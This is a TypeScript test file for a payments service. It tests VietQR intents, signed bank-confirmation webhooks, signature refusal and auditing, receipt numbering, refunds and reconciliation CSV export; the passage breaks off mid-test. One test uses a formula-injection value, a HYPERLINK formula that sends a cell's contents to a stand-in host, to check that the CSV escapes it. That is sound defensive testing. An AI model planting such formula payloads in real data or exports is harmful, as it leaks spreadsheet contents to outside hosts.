import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, it } from 'node:test';
import type { App } from '../../app.js';
import { describeEachDriver, silentLog } from '../../../test/support/databases.js';
import { accountWith, buildTestApp, problemOf, type Account } from '../../../test/support/app.js';
import {
  bankConfirmation,
  CONFIRMATIONS_PATH,
  decodeEmv,
  DEMO_PAYEE,
  paymentsModule,
  PaymentsService,
  reconciliationCsv,
  transferFor,
  WEBHOOK_SECRET_FILE,
  type BankConfirmation,
  type ConfirmationAnswer,
  type PaymentIntent,
  type Receipt,
  type Reconciliation,
} from './index.js';

/**
 * Payments end to end: an intent's VietQR code, the bank's signed confirmation over HTTP marking it
 * paid and running its purpose's handler in the same transaction (a handler that fails leaves
 * nothing and the bank retries), deliveries again answered the same, refused signatures audited,
 * money that pays nothing kept for reconciliation, receipts numbered per year, the figures exact.
 */

const SECRET = 'test-webhook-secret-0123456789abcdef0123456789';
const BASE = '/api/v1/payments';
let transactions = 0;
const nextTransaction = () => `FT26341${String(++transactions).padStart(6, '0')}`;

describeEachDriver('payments', (ctx) => {
  let app: App;
  let payments: PaymentsService;
  let officer: Account;
  let viewer: Account;
  let admin: Account;
  /** When set, the test purpose's handler fails (as a dossier's store might). */
  let failSettling = false;
  /** What the handler saw of its intent's row, inside the confirmation's transaction. */
  const seenInside: string[] = [];

  before(async () => {
    app = await buildTestApp(ctx.db, { PAYMENTS_WEBHOOK_SECRET: SECRET });
    officer = await accountWith(app, ['officer'], '');
    viewer = await accountWith(app, ['viewer'], '');
    admin = await accountWith(app, ['admin'], '*');
    payments = app.modules.get(paymentsModule);
    await ctx.db.exec('CREATE TABLE test_fee_paid (subject text PRIMARY KEY, reference text NOT NULL)');
    payments.onSettled('test-fee', async (tx, tenant, intent) => {
      const { rows } = await tx.query<{ state: string }>(
        'SELECT state FROM payments_intents WHERE tenant = $1 AND reference = $2',
        [tenant, intent.reference],
      );
      seenInside.push(rows[0]?.state ?? 'none');
      await tx.query('INSERT INTO test_fee_paid (subject, reference) VALUES ($1, $2)', [
        intent.subject,
        intent.reference,
      ]);
      if (failSettling) throw new Error('the dossier store is down');
    });
  });
  after(async () => {
    await app.http.close();
  });

  const bank = async (body: BankConfirmation, at = new Date(), secret = SECRET) => {
    const res = await app.http.inject(bankConfirmation(secret, body, at));
    return { status: res.statusCode, res, json: <T = ConfirmationAnswer>() => res.json<T>() };
  };
  const pay = (intent: PaymentIntent, extra: Partial<BankConfirmation> = {}): BankConfirmation => ({
    transactionId: nextTransaction(),
    reference: `MBVCB.${intent.reference} Nop phi`,
    amountVnd: intent.amountVnd,
    paidAt: new Date().toISOString(),
    accountNumber: DEMO_PAYEE.account,
    ...extra,
  });
  const get = async (url: string, who: Account = officer) => {
    const res = await app.http.inject({ method: 'GET', url, headers: who.auth });
    return { status: res.statusCode, res, json: <T>() => res.json<T>() };
  };
  const count = async (sql: string, params: unknown[]) =>
    Number((await ctx.db.query<{ n: number }>(sql, params)).rows[0]?.n);
  const confirmations = (transactionId: string) =>
    count('SELECT count(*) AS n FROM payments_confirmations WHERE transaction_id = $1', [transactionId]);
  let subjects = 0;
  const newIntent = (amountVnd = 150_000, purpose = 'test-fee') =>
    payments.createIntent('', {
      purpose,
      subject: `DOSSIER-${++subjects}`,
      amountVnd,
      description: 'Lệ phí cấp giấy phép xây dựng',
    });

  it('makes one pending intent per purpose and subject, its QR code naming the amount and the reference', async () => {
    const intent = await newIntent(150_000);
    assert.match(intent.reference, /^TL[0-9A-HJKMNP-TV-Z]{10}$/);
    assert.equal(intent.state, 'pending');
    const again = await payments.createIntent('', {
      purpose: 'test-fee',
      subject: intent.subject,
      amountVnd: 150_000,
      description: 'asked again',
    });
    assert.equal(again.reference, intent.reference, 'asking again gives the same intent');
    await assert.rejects(
      payments.createIntent('', { purpose: 'test-fee', subject: intent.subject, amountVnd: 1, description: 'x' }),
      (err: { code?: string }) => err.code === 'PAYMENTS_INTENT_DIFFERS',
    );
    const read = decodeEmv(intent.qr);
    assert.equal(read.fields.get('54'), '150000');
    assert.equal(read.additional.get('08'), intent.reference);
    assert.equal(read.beneficiary.get('00'), DEMO_PAYEE.bankBin);
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.reference, intent.reference);
    assert.equal(await payments.intentOf('', 'test-fee', 'NO-SUCH'), undefined);

    const shown = await get(`${BASE}/intents/${intent.reference}`, viewer);
    assert.equal(shown.status, 200, shown.res.body);
    assert.match(shown.json<{ qrSvg: string }>().qrSvg, /^<svg/);
    const listed = await get(`${BASE}/intents?state=pending&limit=1000`, viewer);
    assert.ok(
      listed.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference),
      'listed.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference)',
    );
    const since = encodeURIComponent(intent.createdAt);
    const window = await get(
      `${BASE}/intents?from=${since}&to=${encodeURIComponent(new Date(Date.parse(intent.createdAt) + 1).toISOString())}`,
    );
    assert.equal(window.status, 200, window.res.body);
    assert.ok(
      window.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference),
      'window.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference)',
    );
    const before = await get(`${BASE}/intents?to=${since}&limit=1000`);
    assert.ok(
      !before.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference),
      '!before.json<{ intents: PaymentIntent[] }>().intents.some((i) => i.reference === intent.reference)',
    );
  });

  it('makes an intent with a reference drawn beforehand; one taken is drawn again, a made-up one refused', async () => {
    const drawn = payments.newReference();
    const intent = await payments.createIntent('', {
      purpose: 'test-fee',
      subject: `DOSSIER-${++subjects}`,
      amountVnd: 75_000,
      description: 'Lệ phí',
      reference: drawn,
    });
    assert.equal(intent.reference, drawn);
    assert.equal(decodeEmv(intent.qr).additional.get('08'), drawn);
    const other = await payments.createIntent('', {
      purpose: 'test-fee',
      subject: `DOSSIER-${++subjects}`,
      amountVnd: 75_000,
      description: 'Lệ phí',
      reference: drawn,
    });
    assert.notEqual(other.reference, drawn, 'a reference is never given to two intents');
    assert.match(other.reference, /^TL[0-9A-HJKMNP-TV-Z]{10}$/);
    await assert.rejects(
      payments.createIntent('', {
        purpose: 'test-fee',
        subject: `DOSSIER-${++subjects}`,
        amountVnd: 75_000,
        description: 'Lệ phí',
        reference: 'TL-MADE-UP',
      }),
      (err: { code?: string }) => err.code === 'PAYMENTS_INVALID',
    );
  });

  it("a confirmation pays the intent and runs its purpose's handler in the same transaction; again, the same answer", async () => {
    const intent = await newIntent(250_000);
    const body = pay(intent);
    const first = await bank(body);
    assert.equal(first.status, 200, first.res.body);
    const answer = first.json();
    assert.equal(answer.outcome, 'matched');
    assert.equal(answer.reference, intent.reference);
    assert.match(answer.receiptNumber ?? '', /^BL-\d{4}-\d{6}$/);
    assert.equal(seenInside.at(-1), 'paid', 'the handler sees the intent paid, inside the transaction');
    assert.equal(await count('SELECT count(*) AS n FROM test_fee_paid WHERE subject = $1', [intent.subject]), 1);

    const paid = await payments.intentOf('', 'test-fee', intent.subject);
    assert.equal(paid?.state, 'paid');
    assert.equal(paid?.bankTransaction, body.transactionId);

    const handled = seenInside.length;
    const replay = await bank(body);
    assert.equal(replay.status, 200);
    assert.deepEqual(replay.json(), answer, 'the first answer');
    // Even a body changed under the same transaction id (signed anew) changes nothing.
    const changed = await bank({ ...body, amountVnd: 1 });
    assert.deepEqual(changed.json(), answer);
    assert.equal(seenInside.length, handled, 'the handler ran once');
    assert.equal(await confirmations(body.transactionId), 1);

    const receipt = await get(`${BASE}/intents/${intent.reference}/receipt`, viewer);
    assert.equal(receipt.status, 200, receipt.res.body);
    const r = receipt.json<Receipt>();
    assert.equal(r.number, answer.receiptNumber);
    assert.equal(r.amountVnd, 250_000);
    assert.equal(r.bankTransaction, body.transactionId);
    assert.match(r.payee.bankName, /Công Thương|VietinBank/i);
    const notPaid = await get(`${BASE}/intents/${(await newIntent()).reference}/receipt`, viewer);
    assert.equal(notPaid.status, 404);
    assert.equal(problemOf(notPaid.res).code, 'PAYMENTS_RECEIPT_NOT_FOUND');
  });

  it('refuses a confirmation paid in the future or decades ago (a bank clock gone wrong) with 400, keeping nothing; sent again right, it pays', async () => {
    const intent = await newIntent(90_000);
    const body = pay(intent, { paidAt: new Date(Date.now() + 3600_000).toISOString() });
    const refused = await bank(body);
    assert.equal(refused.status, 400, refused.res.body);
    assert.equal(problemOf(refused.res).code, 'PAYMENTS_BODY_INVALID');
    assert.match(problemOf(refused.res).detail ?? '', /paidAt/);
    assert.equal(await confirmations(body.transactionId), 0);
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.state, 'pending');
    const ancient = await bank({ ...body, paidAt: '1970-01-01T00:00:00Z' });
    assert.equal(ancient.status, 400, ancient.res.body);
    assert.equal(await confirmations(body.transactionId), 0);
    const again = await bank({ ...body, paidAt: new Date().toISOString() });
    assert.equal(again.status, 200, again.res.body);
    assert.equal(again.json().outcome, 'matched');
  });

  it('a signed confirmation with a field it does not know (a status) is kept for reconciliation, not settled; the known fields are still checked', async () => {
    const intent = await newIntent(120_000);
    const body = { ...pay(intent), status: 'REVERSED', channel: { name: 'ibanking' } };
    const kept = await bank(body);
    assert.equal(kept.status, 200, kept.res.body);
    assert.equal(kept.json().outcome, 'unmatched');
    assert.equal(await confirmations(body.transactionId), 1, 'the money is on record');
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.state, 'pending', 'nothing paid');
    const wrong = { ...pay(await newIntent(120_000)), amountVnd: 'mười' as unknown as number, currency: 'VND' };
    const refused = await bank(wrong);
    assert.equal(refused.status, 400, refused.res.body);
    assert.equal(problemOf(refused.res).code, 'VALIDATION_FAILED');
    assert.equal(await confirmations(wrong.transactionId), 0);
  });

  it('deliveries of one transaction at the same time: one kept, one answer, the handler once', async () => {
    const intent = await newIntent(90_000);
    const body = pay(intent);
    const handled = seenInside.length;
    const answers = await Promise.all([bank(body), bank(body), bank(body)]);
    for (const a of answers) assert.equal(a.status, 200, a.res.body);
    const first = answers[0]?.json();
    assert.equal(first?.outcome, 'matched');
    for (const a of answers) assert.deepEqual(a.json(), first);
    assert.equal(await confirmations(body.transactionId), 1);
    assert.equal(seenInside.length, handled + 1);
  });

  it('a handler that fails: nothing kept, the bank gets a 503 and its retry settles it', async () => {
    const intent = await newIntent(80_000);
    const body = pay(intent);
    failSettling = true;
    try {
      const refused = await bank(body);
      assert.equal(refused.status, 503, refused.res.body);
      assert.equal(problemOf(refused.res).code, 'PAYMENTS_SETTLEMENT_FAILED');
    } finally {
      failSettling = false;
    }
    assert.equal(await confirmations(body.transactionId), 0, 'the confirmation is not kept');
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.state, 'pending');
    assert.equal(await count('SELECT count(*) AS n FROM test_fee_paid WHERE subject = $1', [intent.subject]), 0);

    const retry = await bank(body);
    assert.equal(retry.status, 200, retry.res.body);
    assert.equal(retry.json().outcome, 'matched');
    assert.equal(await count('SELECT count(*) AS n FROM test_fee_paid WHERE subject = $1', [intent.subject]), 1);
  });

  it('refuses a bad, stale or tampered signature with 401, keeps nothing, and audits the attempt', async () => {
    const intent = await newIntent(60_000);
    const cases: { name: string; send: () => Promise<{ status: number; res: { body: string } }> }[] = [];
    const wrongSecret = pay(intent, { transactionId: 'FT-BAD-SECRET' });
    cases.push({ name: 'wrong secret', send: () => bank(wrongSecret, new Date(), 'x'.repeat(40)) });
    const stale = pay(intent, { transactionId: 'FT-BAD-STALE' });
    cases.push({ name: 'stale', send: () => bank(stale, new Date(Date.now() - 301_000)) });
    const tampered = pay(intent, { transactionId: 'FT-BAD-TAMPERED' });
    cases.push({
      name: 'tampered',
      send: async () => {
        const signed = bankConfirmation(SECRET, tampered);
        const res = await app.http.inject({ ...signed, payload: signed.payload.replace('60000', '6000') });
        return { status: res.statusCode, res };
      },
    });
    const unsigned = pay(intent, { transactionId: 'FT-BAD-UNSIGNED' });
    cases.push({
      name: 'unsigned',
      send: async () => {
        const res = await app.http.inject({
          method: 'POST',
          url: CONFIRMATIONS_PATH,
          headers: { 'content-type': 'application/json' },
          payload: JSON.stringify(unsigned),
        });
        return { status: res.statusCode, res };
      },
    });
    // Each says why, in plain words.
    const why: Record<string, RegExp> = {
      'wrong secret': /signature does not match its body/,
      stale: /more than 300 seconds old or ahead/,
      tampered: /signature does not match its body/,
      unsigned: /^The confirmation is not signed/,
    };
    for (const c of cases) {
      const res = await c.send();
      assert.equal(res.status, 401, `${c.name}: ${res.res.body}`);
      const problem = JSON.parse(res.res.body) as { code?: string; detail?: string };
      assert.equal(problem.code, 'PAYMENTS_SIGNATURE_INVALID', c.name);
      assert.match(problem.detail ?? '', why[c.name] ?? /^$/, c.name);
      assert.doesNotMatch(problem.detail ?? '', /is mismatch/, c.name);
    }
    const vi = await app.http.inject({
      method: 'POST',
      url: CONFIRMATIONS_PATH,
      headers: { 'content-type': 'application/json', 'accept-language': 'vi' },
      payload: JSON.stringify(unsigned),
    });
    assert.match(
      (JSON.parse(vi.body) as { detail: string }).detail,
      /^Xác nhận thanh toán không có chữ ký: .*Không có gì được ghi nhận\.$/,
    );
    for (const id of ['FT-BAD-SECRET', 'FT-BAD-STALE', 'FT-BAD-TAMPERED', 'FT-BAD-UNSIGNED']) {
      assert.equal(await confirmations(id), 0, `${id}: nothing kept`);
    }
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.state, 'pending');
    await app.audit.flush();
    const records = await app.audit.find({
      scope: '*',
      action: `POST ${CONFIRMATIONS_PATH}`,
      target: 'transaction:FT-BAD-STALE',
      limit: 10,
      order: 'newest',
    });
    assert.equal(records.length, 1, 'the refused attempt is in the audit trail');
    assert.equal(records[0]?.outcome, 401);
  });

  it('keeps money that pays nothing for reconciliation, the intent untouched', async () => {
    const intent = await newIntent(120_000);
    const short = await bank(pay(intent, { amountVnd: 100_000 }));
    assert.equal(short.json().outcome, 'amount-mismatch');
    assert.equal((await payments.intentOf('', 'test-fee', intent.subject))?.state, 'pending');
    const unknown = await bank(pay(intent, { reference: 'chuyen tien hoc phi' }));
    assert.equal(unknown.status, 200);
    assert.equal(unknown.json().outcome, 'unmatched');
    const otherAccount = await bank(pay(intent, { accountNumber: '123456789' }));
    assert.equal(otherAccount.json().outcome, 'unmatched');
    const paid = await bank(pay(intent));
    assert.equal(paid.json().outcome, 'matched');
    const twice = await bank(pay(intent));
    assert.equal(twice.json().outcome, 'duplicate-payment');
    assert.equal(twice.json().receiptNumber, undefined);

    const cancelledIntent = await newIntent(30_000);
    const viewerCancel = await app.http.inject({
      method: 'POST',
      url: `${BASE}/intents/${cancelledIntent.reference}/cancel`,
      headers: officer.auth,
    });
    assert.equal(viewerCancel.statusCode, 403, 'cancelling is payments:manage');
    const cancel = await app.http.inject({
      method: 'POST',
      url: `${BASE}/intents/${cancelledIntent.reference}/cancel`,
      headers: admin.auth,
    });
    assert.equal(cancel.statusCode, 200, cancel.body);
    const again = await app.http.inject({
      method: 'POST',
      url: `${BASE}/intents/${cancelledIntent.reference}/cancel`,
      headers: admin.auth,
    });
    assert.equal(again.statusCode, 409);
    assert.equal(problemOf(again).code, 'PAYMENTS_STATE');
    const late = await bank(pay(cancelledIntent));
    assert.equal(late.json().outcome, 'unmatched');
    assert.equal((await payments.intentOf('', 'test-fee', cancelledIntent.subject))?.state, 'cancelled');

    const monitor = await accountWith(app, ['monitor']);
    const metrics = await app.http.inject({ method: 'GET', url: '/metrics', headers: monitor.auth });
    assert.match(metrics.body, /thanglong_payments_confirmations_total\{outcome="amount-mismatch"[^}]*\} [1-9]/);
    assert.match(metrics.body, /thanglong_payments_confirmations_total\{outcome="signature-invalid"[^}]*\} [1-9]/);
  });

  it('a memo naming two known references is kept unmatched for a person, not paid to the first; one known and a made-up one pays', async () => {
    const first = await newIntent(50_000);
    const second = await newIntent(50_000);
    const both = await bank(pay(second, { reference: `${first.reference} ${second.reference} Nop phi` }));
    assert.equal(both.status, 200);
    assert.equal(both.json().outcome, 'unmatched');
    assert.equal(both.json().reference, undefined);
    assert.equal((await payments.intentOf('', 'test-fee', first.subject))?.state, 'pending');
    assert.equal((await payments.intentOf('', 'test-fee', second.subject))?.state, 'pending');
    // A reference-shaped word that names no intent does not stand in the way of the one that does.
    const one = await bank(pay(second, { reference: `TL0000000000 ${second.reference}` }));
    assert.equal(one.json().outcome, 'matched');
  });

  /** The service on the test's database with its own clock. */
  const serviceAt = (clock: { now: Date }) =>
    new PaymentsService({
      db: ctx.db,
      settings: { ...DEMO_PAYEE, webhookSecret: SECRET },
      log: silentLog,
      now: () => clock.now,
    });

  it('numbers receipts per tenant and year (Hà Nội time): BL-2026-000001, …, BL-2027-000001', async () => {
    const clock = { now: new Date('2026-12-31T10:00:00Z') };
    const service = serviceAt(clock);
    const paidAt = async (tenant: string, at: string) => {
      const intent = await service.createIntent(tenant, {
        purpose: 'parking',
        subject: `29A-${++subjects}`,
        amountVnd: 30_000,
        description: 'Phí gửi xe',
      });
      // Confirmed a minute after it was paid.
      clock.now = new Date(Date.parse(at) + 60_000);
      const answer = await service.confirm(tenant, { ...pay(intent), paidAt: at, reference: intent.reference }, '{}');
      return answer.receiptNumber;
    };
    assert.equal(await paidAt('receipts', '2026-12-31T10:00:00Z'), 'BL-2026-000001');
    assert.equal(await paidAt('receipts', '2026-12-31T16:59:59Z'), 'BL-2026-000002');
    assert.equal(await paidAt('receipts', '2026-12-31T17:00:00Z'), 'BL-2027-000001', '00:00 in Hà Nội is 2027');
    assert.equal(await paidAt('other-city', '2026-12-31T10:00:00Z'), 'BL-2026-000001', 'each tenant its own');
    assert.equal(await paidAt('receipts', '2027-01-02T03:00:00Z'), 'BL-2027-000002');
  });

  it('shows a bank transaction id that starts like a formula as text in the CSV', async () => {
    const tenant = 'recon-formula';
    const clock = { now: new Date('2026-12-07T03:00:00Z') };
    const service = serviceAt(clock);
    const id = '=HYPERLINK("https://x.example/?"&A1,"Xem")';
    const confirmed = await service.confirm(
      tenant,
      {
        transactionId: id,
        reference: 'TLZZZZZZZZZZ',
        amountVnd: 75_000,
        paidAt: clock.now.toISOString(),
        accountNumber: DEMO_PAYEE.account,
      },
      '{}',
    );
    assert.equal(confirmed.outcome, 'unmatched');
    const csv = reconciliationCsv(await service.reconciliation(tenant, '2026-12-07', '2026-12-07'));
    assert.match(
      csv,
      /\r\n2026-12-07,0,0,0,0,0,0,0,,0,0,1,"'=HYPERLINK\(""https:\/\/x\.example\/\?""&A1,""Xem""\)",0,,0,,0,0,,0,0,\r\n$/,
    );
  });

  it('reconciles day by day in Hà Nội time, the figures exact, as JSON and CSV', async () => {
    const tenant = 'recon';
    const clock = { now: new Date('2026-12-06T18:00:00Z') }; // 7 Dec 01:00 in Hà Nội
    const service = serviceAt(clock);
    const make = (subject: string, amountVnd: number) =>
      service.createIntent(tenant, { purpose: 'dossier-fee', subject, amountVnd, description: 'Lệ phí' });
    const confirm = async (transactionId: string, reference: string, amountVnd: number, at: string) => {
      clock.now = new Date(at);
      return service.confirm(
        tenant,
        { transactionId, reference, amountVnd, paidAt: at, accountNumber: DEMO_PAYEE.account },
        '{}',
      );
    };
    const a = await make('A', 100_000);
    const b = await make('B', 50_000);
    const c = await make('C', 20_000);
    assert.equal((await confirm('TX-A', a.reference, 100_000, '2026-12-07T03:00:00Z')).outcome, 'matched');
    assert.equal((await confirm('TX-B-SHORT', b.reference, 40_000, '2026-12-07T04:00:00Z')).outcome, 'amount-mismatch');
    assert.equal((await confirm('TX-UNKNOWN', 'TLZZZZZZZZZZ', 75_000, '2026-12-07T05:00:00Z')).outcome, 'unmatched');
    await service.cancel(tenant, c.reference);
    // 00:30 on 8 Dec in Hà Nội, 17:30 on the 7th in UTC.
    assert.equal((await confirm('TX-B', b.reference, 50_000, '2026-12-07T17:30:00Z')).outcome, 'matched');
    assert.equal(
      (await confirm('TX-A-AGAIN', a.reference, 100_000, '2026-12-08T02:00:00Z')).outcome,
      'duplicate-payment',
    );
    clock.now = new Date('2026-12-08T03:00:00Z');
    await make('D', 10_000);

    const r: Reconciliation = await service.reconciliation(tenant, '2026-12-06', '2026-12-08');
    assert.deepEqual(
      r.days.map((d) => ({
        date: d.date,
        created: d.created,
        paid: d.paid,
        pending: d.pending,
        cancelled: d.cancelled,
        unmatched: d.unmatched.map((l) => l.transactionId),
        amountMismatches: d.amountMismatches.map((l) => l.transactionId),
        duplicates: d.duplicates.map((l) => l.transactionId),
      })),
      [
        {
          date: '2026-12-06',
          created: 0,
          paid: { count: 0, sumVnd: 0 },
          pending: 0,
          cancelled: 0,
          unmatched: [],
          amountMismatches: [],
          duplicates: [],
        },
        {
          date: '2026-12-07',
          created: 3,
          paid: { count: 1, sumVnd: 100_000 },
          pending: 0,
          cancelled: 1,
          unmatched: ['TX-UNKNOWN'],
          amountMismatches: ['TX-B-SHORT'],
          duplicates: [],
        },
        {
          date: '2026-12-08',
          created: 1,
          paid: { count: 1, sumVnd: 50_000 },
          pending: 1,
          cancelled: 0,
          unmatched: [],
          amountMismatches: [],
          duplicates: ['TX-A-AGAIN'],
        },
      ],
    );
    assert.deepEqual(r.totals, {
      created: 4,
      paid: { count: 2, sumVnd: 150_000 },
      channels: { transfer: { count: 2, sumVnd: 150_000 }, counter: { count: 0, sumVnd: 0 } },
      pending: 1,
      cancelled: 1,
      unmatched: 1,
      amountMismatches: 1,
      duplicates: 1,
      unsettledVnd: 40_000 + 75_000 + 100_000,
      refunds: {
        due: { count: 0, sumVnd: 0 },
        outstanding: { count: 0, sumVnd: 0 },
        refunded: { count: 0, sumVnd: 0 },
      },
    });
    const csv = reconciliationCsv(r);
    assert.ok(csv.startsWith('\uFEFFdate,created,paid_count,paid_sum_vnd,'), 'UTF-8 with a BOM');
    assert.match(csv, /\r\n2026-12-07,3,1,100000,1,100000,0,0,,0,1,1,TX-UNKNOWN,1,TX-B-SHORT,0,,0,0,,0,0,\r\n/);

    const byRoute = await get(`${BASE}/reconciliation?from=2026-12-06&to=2026-12-08&format=csv`);
    assert.equal(byRoute.status, 200, byRoute.res.body);
    assert.match(String(byRoute.res.headers['content-type']), /^text\/csv/);
    assert.equal(byRoute.res.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf');
    const json = await get(`${BASE}/reconciliation?from=2026-12-06&to=2026-12-08`, viewer);
    assert.equal(json.status, 200, json.res.body);
    assert.equal(json.json<Reconciliation>().days.length, 3);
    const backwards = await get(`${BASE}/reconciliation?from=2026-12-08&to=2026-12-06`);
    assert.equal(problemOf(backwards.res).code, 'PAYMENTS_PERIOD_INVALID');
  });

  it('reconciles payments at a counter beside the transfers, by channel, and the refunds due and made, as JSON and CSV', async () => {
    const tenant = 'recon-counter';
    const clock = { now: new Date('2026-12-07T02:00:00Z') }; // 09:00 in Hà Nội
    const service = serviceAt(clock);
    const make = (subject: string, amountVnd: number) =>
      service.createIntent(tenant, { purpose: 'dossier-fee', subject, amountVnd, description: 'Lệ phí' });
    const officerWho = { id: 'u-counter', name: 'Nguyễn Thu Hà' };
    // Paid at the counter: its VietQR intent cancelled with it, the receipt recorded.
    const cash = await make('CASH', 80_000);
    const counter = await ctx.db.transaction(async (tx) => {
      await service.cancel(tenant, cash.reference, tx);
      return service.recordCounter(
        tenant,
        {
          purpose: 'dossier-fee',
          office: 'mot-cua',
          subject: 'CASH',
          receiptNumber: '0001234',
          amountVnd: 80_000,
          by: officerWho,
          intent: cash.reference,
        },
        tx,
      );
    });
    assert.deepEqual(counter, {
      purpose: 'dossier-fee',
      office: 'mot-cua',
      subject: 'CASH',
      receiptNumber: '0001234',
      amountVnd: 80_000,
      paidAt: '2026-12-07T02:00:00.000Z',
      by: officerWho,
      intent: cash.reference,
    });
    const twice = service.recordCounter(tenant, {
      purpose: 'dossier-fee',
      office: 'mot-cua',
      subject: 'CASH',
      receiptNumber: '0001234',
      amountVnd: 80_000,
      by: officerWho,
    });
    await assert.rejects(twice, (err: { code?: string }) => err.code === 'PAYMENTS_COUNTER_RECORDED');
    // One cash receipt is one payment: its number does not mark a second fee paid.
    const elsewhere = service.recordCounter(tenant, {
      purpose: 'dossier-fee',
      office: 'mot-cua',
      subject: 'OTHER',
      receiptNumber: '0001234',
      amountVnd: 80_000,
      by: officerWho,
    });
    await assert.rejects(elsewhere, (err: { code?: string }) => err.code === 'PAYMENTS_COUNTER_RECORDED');
    // However its letters are written, a number is the same receipt (another tenant: these are not in the sums below).
    await service.recordCounter('receipt-books', {
      purpose: 'dossier-fee',
      subject: 'THIRD',
      office: 'mot-cua',
      receiptNumber: 'BL-0001234',
      amountVnd: 80_000,
      by: officerWho,
    });
    await assert.rejects(
      service.recordCounter('receipt-books', {
        purpose: 'dossier-fee',
        subject: 'FOURTH',
        office: 'mot-cua',
        receiptNumber: 'bl-0001234',
        amountVnd: 80_000,
        by: officerWho,
      }),
      (err: { code?: string }) => err.code === 'PAYMENTS_COUNTER_RECORDED',
    );
    // Another office's book numbers its receipts its own way: the same number there is its own receipt.
    const ward = await service.recordCounter('receipt-books', {
      purpose: 'dossier-fee',
      subject: 'OTHER',
      office: 'ubnd-00004',
      receiptNumber: 'BL-0001234',
      amountVnd: 80_000,
      by: officerWho,
    });
    assert.equal(ward.office, 'ubnd-00004');
    await assert.rejects(
      service.recordCounter(tenant, {
        purpose: 'dossier-fee',
        office: 'mot-cua',
        subject: 'X',
        receiptNumber: '1',
        amountVnd: 0,
        by: officerWho,
      }),
      (err: { code?: string }) => err.code === 'PAYMENTS_INVALID',
    );
    // The applicant's transfer comes after all: nothing is owed for it, its money is due back; the same
    // transaction again is the same answer and one refund.
    clock.now = new Date('2026-12-07T03:00:00Z');
    const late = {
      transactionId: 'TX-LATE',
      reference: cash.reference,
      amountVnd: 80_000,
      paidAt: clock.now.toISOString(),
      accountNumber: DEMO_PAYEE.account,
    };
    assert.equal((await service.confirm(tenant, late, '{}')).outcome, 'unmatched');
    assert.equal((await service.confirm(tenant, late, '{}')).outcome, 'unmatched');
    // Paid by transfer as its dossier closed: its owner says the money is due back.
    clock.now = new Date('2026-12-07T03:30:00Z');
    const raced = await make('RACED', 50_000);
    assert.equal(
      (
        await service.confirm(
          tenant,
          { ...late, transactionId: 'TX-RACED', reference: raced.reference, amountVnd: 50_000 },
          '{}',
        )
      ).outcome,
      'matched',
    );
    const due = await ctx.db.transaction((tx) => service.refundDue(tenant, raced.reference, 'dossier-withdrawn', tx));
    assert.equal(due?.state, 'due');
    // An intent not paid owes nothing back.
    const pending = await make('PENDING', 10_000);
    assert.equal(
      await ctx.db.transaction((tx) => service.refundDue(tenant, pending.reference, 'dossier-withdrawn', tx)),
      undefined,
    );
    assert.deepEqual(
      (await service.refunds(tenant, { state: 'due' })).map((r) => [r.transactionId, r.reason, r.amountVnd, r.subject]),
      [
        ['TX-RACED', 'dossier-withdrawn', 50_000, 'RACED'],
        ['TX-LATE', 'intent-cancelled', 80_000, 'CASH'],
      ],
    );
    // The next day the treasury gives the late transfer back.
    clock.now = new Date('2026-12-08T04:00:00Z');
    const refunded = await service.recordRefund(tenant, 'TX-LATE', 'HT-2026-0042', 'thuquy');
    assert.deepEqual(
      [refunded.state, refunded.refundReference, refunded.refundedAt, refunded.refundedBy],
      ['refunded', 'HT-2026-0042', '2026-12-08T04:00:00.000Z', 'thuquy'],
    );

    const r = await service.reconciliation(tenant, '2026-12-07', '2026-12-08');
    const [d7, d8] = r.days;
    assert.deepEqual(
      [d7?.paid, d7?.channels],
      [
        { count: 2, sumVnd: 130_000 },
        { transfer: { count: 1, sumVnd: 50_000 }, counter: { count: 1, sumVnd: 80_000 } },
      ],
    );
    assert.deepEqual(d7?.counter, [counter]);
    assert.deepEqual(
      d7?.unmatched.map((l) => l.transactionId),
      ['TX-LATE'],
    );
    assert.deepEqual(
      d7?.refundsDue.map((x) => [x.transactionId, x.state]),
      [
        ['TX-LATE', 'refunded'],
        ['TX-RACED', 'due'],
      ],
    );
    assert.deepEqual(
      d8?.refunded.map((x) => x.transactionId),
      ['TX-LATE'],
    );
    assert.deepEqual(
      [r.totals.paid, r.totals.channels, r.totals.refunds],
      [
        { count: 2, sumVnd: 130_000 },
        { transfer: { count: 1, sumVnd: 50_000 }, counter: { count: 1, sumVnd: 80_000 } },
        {
          due: { count: 2, sumVnd: 130_000 },
          outstanding: { count: 1, sumVnd: 50_000 },
          refunded: { count: 1, sumVnd: 80_000 },
        },
      ],
    );
    const csv = reconciliationCsv(r);
    assert.match(
      csv,
      /\r\n2026-12-07,3,2,130000,1,50000,1,80000,0001234,1,1,1,TX-LATE,0,,0,,2,130000,TX-LATE TX-RACED,0,0,\r\n/,
    );
    assert.match(csv, /\r\n2026-12-08,0,0,0,0,0,0,0,,0,0,0,,0,,0,,0,0,,1,80000,TX-LATE\r\n$/);
  });

  it('lists the refunds due, and an admin records one with its reference (audited): again the same, another refused', async () => {
    const intent = await newIntent(45_000);
    await payments.cancel('', intent.reference);
    const late = pay(intent);
    assert.equal((await bank(late)).json().outcome, 'unmatched');
    assert.equal((await bank(late)).json().outcome, 'unmatched', 'a delivery again');
    assert.equal(
      await count('SELECT count(*) AS n FROM payments_refunds WHERE transaction_id = $1', [late.transactionId]),
      1,
    );
    const listed = await get(`${BASE}/refunds?state=due&purpose=test-fee&subject=${intent.subject}`, viewer);
    assert.equal(listed.status, 200, listed.res.body);
    assert.deepEqual(
      listed
        .json<{ refunds: { transactionId: string; reason: string; state: string }[] }>()
        .refunds.map((r) => [r.transactionId, r.reason, r.state]),
      [[late.transactionId, 'intent-cancelled', 'due']],
    );
    const record = (transactionId: string, reference: unknown, who: Account) =>
      app.http.inject({
        method: 'POST',
